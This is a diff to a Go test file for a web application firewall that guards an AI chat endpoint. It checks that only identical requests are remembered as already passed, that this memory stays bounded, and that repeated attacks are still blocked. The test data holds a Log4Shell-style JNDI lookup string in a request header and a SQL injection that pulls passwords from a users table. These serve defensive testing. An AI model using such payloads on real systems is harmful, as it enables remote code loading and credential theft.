@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/binary"
 	"encoding/json"
 	"fmt"
 	"log/slog"
@@ -212,6 +213,95 @@ func contains(values []string, wanted string) bool {
 	return false
 }
 
+// What is asked again is answered from memory; whatever else differs is inspected, also when most of it is known.
+func TestOnlyTheSameQuestionIsRemembered(t *testing.T) {
+	f, err := newFirewall(1<<20, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	asks := func(text, id string) request {
+		r := prompt(text)
+		r.headers["x-request-id"] = id
+		return r
+	}
+	known := func(r request) bool { return f.passed.has(questionOf(r, inspectedBody(r).arguments)) }
+	pass := func(r request) {
+		t.Helper()
+		if refused, err := f.check(r); err != nil || refused != nil {
+			t.Fatal(refused, err)
+		}
+	}
+	first := asks("Hello.", "0f9dc2f2-8b8c-4b3e-9d0a-6a5f4d3c2b1a")
+	if pass(first); !known(first) {
+		t.Error("a request that passed is not remembered")
+	}
+	if !known(asks("Another prompt, of another length. "+injection, "7c1d8a90-1b2c-4d3e-8f4a-5b6c7d8e9f00")) {
+		t.Error("the text for the model, its length and the request's id make another question")
+	}
+	for name, change := range map[string]func(*request){
+		"the client":        func(r *request) { r.client = "203.0.113.8" },
+		"the method":        func(r *request) { r.method = "PUT" },
+		"the query":         func(r *request) { r.target += "?a=b" },
+		"the host":          func(r *request) { r.host = "example.com" },
+		"the protocol":      func(r *request) { r.protocol = "HTTP/2" },
+		"a header":          func(r *request) { r.headers["accept"] = "text/html" },
+		"one header more":   func(r *request) { r.headers["x-a"] = "b" },
+		"an id of its own":  func(r *request) { r.headers["x-request-id"] += "-1" },
+		"an attack as id":   func(r *request) { r.headers["x-request-id"] = "${jndi:ldap://example.com/a}" },
+		"no length":         func(r *request) { delete(r.headers, "content-length") },
+		"a length of 0":     func(r *request) { r.headers["content-length"] = "0" },
+		"a field":           func(r *request) { r.body = []byte(`{"model":"tiny","stream":true,"note":"a b","messages":[]}`) },
+		"a name of a field": func(r *request) { r.body = []byte(`{"model":"tiny","stream":true,"note":{},"messages":[]}`) },
+	} {
+		r := asks("Hello.", first.headers["x-request-id"])
+		if change(&r); known(r) {
+			t.Errorf("%s makes no other question", name)
+		}
+	}
+	// the same bytes cut at another place
+	for _, body := range []string{`{"messages":[],"ab":"c d"}`, `{"messages":[],"a":"bc d"}`} {
+		r := chat(body)
+		if known(r) {
+			t.Errorf("%s was not asked", body)
+		}
+		pass(r)
+	}
+	denied := chat(`{"model":"x' UNION SELECT password FROM users-- ","messages":[]}`)
+	for range 2 {
+		if refused, err := f.check(denied); err != nil || refused == nil || refused.status != 403 || len(refused.rules) == 0 {
+			t.Error("an attack that is repeated is not denied as before", refused, err)
+		}
+	}
+	own, err := newFirewall(1<<20, `SecRule REQUEST_METHOD "@streq TRACE" "id:1,phase:1,deny,status:403"`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := own.check(first); err != nil || own.passed != nil {
+		t.Error("something is remembered beside directives of the operator's own", err)
+	}
+}
+
+func TestMemoryIsBounded(t *testing.T) {
+	p := &passed{}
+	often := question{1}
+	for i := range 5 * mostRemembered {
+		var q question
+		binary.BigEndian.PutUint64(q[8:], uint64(i))
+		p.add(q)
+		if i == 0 {
+			p.add(often)
+		} else if !p.has(often) {
+			t.Fatal("forgotten though it is asked all the time, after", i)
+		}
+		if len(p.young)+len(p.before) > 2*mostRemembered {
+			t.Fatal("remembers", len(p.young)+len(p.before))
+		}
+	}
+	if p.has(question{}) {
+		t.Error("what nobody asked again is still there")
+	}
+}
+
 func BenchmarkCheck(b *testing.B) {
 	messages := []any{}
 	for range 9000 {
@@ -229,6 +319,14 @@ func BenchmarkCheck(b *testing.B) {
 		{"the most that is inspected", chat(`{"messages":[],"note":"` + strings.Repeat("select from <b> ;", mostInspectedBytes/17-10) + `"}`), false},
 	} {
 		b.Run(c.name, func(b *testing.B) {
+			for i := 0; b.Loop(); i++ {
+				c.r.headers["authorization"] = fmt.Sprint("Bearer ", i) // seen for the first time
+				if refused, err := shared.check(c.r); err != nil || c.pass == (refused != nil) {
+					b.Fatal(refused, err)
+				}
+			}
+		})
+		b.Run(c.name+", again", func(b *testing.B) {
 			for b.Loop() {
 				if refused, err := shared.check(c.r); err != nil || c.pass == (refused != nil) {
 					b.Fatal(refused, err)
